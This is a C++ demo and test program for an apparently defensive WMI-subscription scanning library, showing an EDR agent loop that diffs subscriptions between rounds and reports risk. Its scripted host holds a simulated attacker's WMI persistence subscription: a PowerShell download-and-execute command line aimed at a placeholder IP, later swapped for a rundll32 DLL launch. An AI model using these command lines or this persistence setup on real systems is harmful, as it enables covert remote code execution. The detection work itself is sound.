// edr_loop: the loop an EDR agent runs around wmisub.
//
// Every interval the agent collects the host's subscriptions, compares them with
// what it saw last time (a baseline of content fingerprints) and, when something
// was added, removed or modified, calls back with the differences field by field
// and the risk of every subscription the change touches.
//
//   usage: edr_loop [--interval-ms N] [--rounds N]      (defaults: 10 ms, 5 rounds)
//
// A real agent collects with the COM collector on Windows, every minute or so. So
// that this runs anywhere (and as a test), the host here is scripted: an attacker
// installs a boot-time subscription in round 1, swaps its payload in round 2 and
// removes it in round 3. The program exits 1 unless the callback saw exactly those
// three changes.
#include <wmisub/wmisub.hpp>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

namespace {

// What the callback receives when a round differs from the one before. The diff is valid
// during the callback; the assessments own what they refer to and may be kept or queued.
struct change_event {
    int round = 0;
    const wmisub::baseline_diff& diff;
    std::vector<wmisub::assessment> touched;  // assessments of subscriptions with an added or modified object
};

using change_callback = std::function<void(const change_event&)>;

// Stands in for the COM collector: the host's content at each round of the demo.
class scripted_host final : public wmisub::collector {
public:
    [[nodiscard]] std::string name() const override { return "scripted-host"; }

protected:
    wmisub::result<void> read(wmisub::collect_sink& sink) const override {
        wmisub::mock_collector host("scripted-host");
        // A vendor's subscription present all along: it must never be reported.
        host.filter("Contoso Inventory", "SELECT * FROM __TimerEvent WHERE TimerId = 'ContosoInventory'")
            .interval_timer("ContosoInventory", 14'400'000)
            .command_line_consumer("Contoso Inventory", "\"C:\\Program Files\\Contoso\\invagent.exe\" --refresh")
            .bind("Contoso Inventory", "Contoso Inventory");
        const int round = round_++;  // the demo host changes at every collection
        if (round == 1 || round == 2) {
            // Rounds 1-2: the attacker's boot-time subscription; round 2 changes its payload.
            const char* payload = round == 1 ? "powershell.exe -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\""
                                              : "rundll32.exe C:\\Users\\Public\\a.dll,Start";
            host.filter("Updater", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                                   "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 "
                                   "AND TargetInstance.SystemUpTime < 325")
                .command_line_consumer("Updater", payload)
                .bind("Updater", "Updater");
        }
        auto got = host.collect(sink.options());
        if (!got) return std::move(got).error();
        for (auto& f : got->filters) sink.add(wmisub::wmi_object{std::move(f)});
        for (auto& c : got->consumers) sink.add(wmisub::wmi_object{std::move(c)});
        for (auto& b : got->bindings) sink.add(wmisub::wmi_object{std::move(b)});
        for (auto& t : got->timers) sink.add(wmisub::wmi_object{std::move(t)});
        return {};
    }

private:
    mutable std::atomic<int> round_{0};
};

// The agent's loop: collect, diff against the last state, call back on change.
// One engine and one scanner serve every round; the scanner assesses only the
// entries the diff touched, and its rules see the changes (WMISUB-BSL-001).
// Returns the number of rounds whose collection failed.
int run_loop(wmisub::collector& source, int rounds, std::chrono::milliseconds interval,
             const change_callback& on_change) {
    const wmisub::engine engine;
    wmisub::scanner scanner(engine);
    std::optional<wmisub::baseline> last;
    int failures = 0;
    for (int round = 0; round < rounds; ++round) {
        if (round > 0) std::this_thread::sleep_for(interval);
        wmisub::collect_options options;
        // Never let one collection overrun the next round (COM calls can hang; wmisub bounds them).
        options.deadline = std::chrono::steady_clock::now() + interval + std::chrono::seconds(30);
        auto snap = source.collect(options);
        if (!snap || snap->partial()) {  // keep the last good state: a failed or cut-short read is not "removed"
            std::fprintf(stderr, "round %d: %s\n", round,
                         (snap ? *snap->stopped : snap.error()).to_string().c_str());
            ++failures;
            continue;
        }
        scanner.set_deadline(options.deadline);
        const wmisub::subscription_graph graph = scanner.build_graph(std::move(*snap));  // owns the snapshot
        if (last) {
            const wmisub::graph_changes changes = wmisub::diff(*last, graph);
            if (changes.diff().has_changes()) {
                std::vector<wmisub::assessment> touched;
                (void)scanner.scan_changes(graph, changes, [&](wmisub::assessment& a) { touched.push_back(std::move(a)); });
                on_change(change_event{round, changes.diff(), std::move(touched)});
            }
        }
        last = wmisub::make_baseline(graph.source());
    }
    return failures;
}

// What an agent would send to its console; here, printed.
void print_change(const change_event& e) {
    std::printf("round %d: %zu added, %zu removed, %zu modified\n", e.round, e.diff.added.size(), e.diff.removed.size(),
                e.diff.modified.size());
    for (const wmisub::diff_object& o : e.diff.added) std::printf("  + %s\n", o.identity.c_str());
    for (const wmisub::diff_object& o : e.diff.removed) std::printf("  - %s\n", o.identity.c_str());
    for (const wmisub::modified_object& m : e.diff.modified) {
        std::printf("  ~ %s\n", m.identity.c_str());
        for (const wmisub::field_change& c : m.changes) {
            std::printf("      %s: %s -> %s\n", c.field.c_str(), c.old_text.c_str(), c.new_text.c_str());
        }
    }
    for (const wmisub::assessment& a : e.touched) {
        std::printf("  risk %s (%d): %s\n", std::string(wmisub::to_string(a.risk.severity)).c_str(), a.risk.score,
                    a.facts.filter != nullptr ? a.facts.filter->name.c_str() : "-");
    }
}

// Reads `--name N`; keeps `value` when the flag is absent. False on a bad number.
bool read_flag(int argc, char** argv, std::string_view name, int& value) {
    for (int i = 1; i + 1 < argc; ++i) {
        if (argv[i] != name) continue;
        char* end = nullptr;
        const long v = std::strtol(argv[i + 1], &end, 10);
        if (end == argv[i + 1] || *end != '\0' || v < 0 || v > 1'000'000) return false;
        value = static_cast<int>(v);
    }
    return true;
}

}  // namespace

int main(int argc, char** argv) {
    int interval_ms = 10;
    int rounds = 5;
    if (!read_flag(argc, argv, "--interval-ms", interval_ms) || !read_flag(argc, argv, "--rounds", rounds)) {
        std::fprintf(stderr, "usage: edr_loop [--interval-ms N] [--rounds N]\n");
        return 2;
    }

    // What the demo checks: one callback per scripted change, each of the expected shape.
    std::vector<std::string> seen;
    bool high_alert = false;
    scripted_host host;
    const int failures = run_loop(host, rounds, std::chrono::milliseconds(interval_ms), [&](const change_event& e) {
        print_change(e);
        seen.push_back(std::to_string(e.diff.added.size()) + "/" + std::to_string(e.diff.removed.size()) + "/" +
                       std::to_string(e.diff.modified.size()));
        for (const wmisub::assessment& a : e.touched)
            high_alert = high_alert || a.risk.severity >= wmisub::severity::high;
    });

    // added/removed/modified per callback: round 1 adds filter, consumer and binding, round 2
    // modifies the consumer, round 3 removes all three; fewer rounds see fewer of them.
    std::vector<std::string> expected = {"3/0/0", "0/0/1", "0/3/0"};
    expected.resize(static_cast<std::size_t>(std::clamp(rounds - 1, 0, 3)));
    const bool ok = failures == 0 && seen == expected && (expected.empty() || high_alert);
    std::printf("%s\n", ok ? "edr_loop: every change reported" : "edr_loop: unexpected changes");
    return ok ? 0 : 1;
}
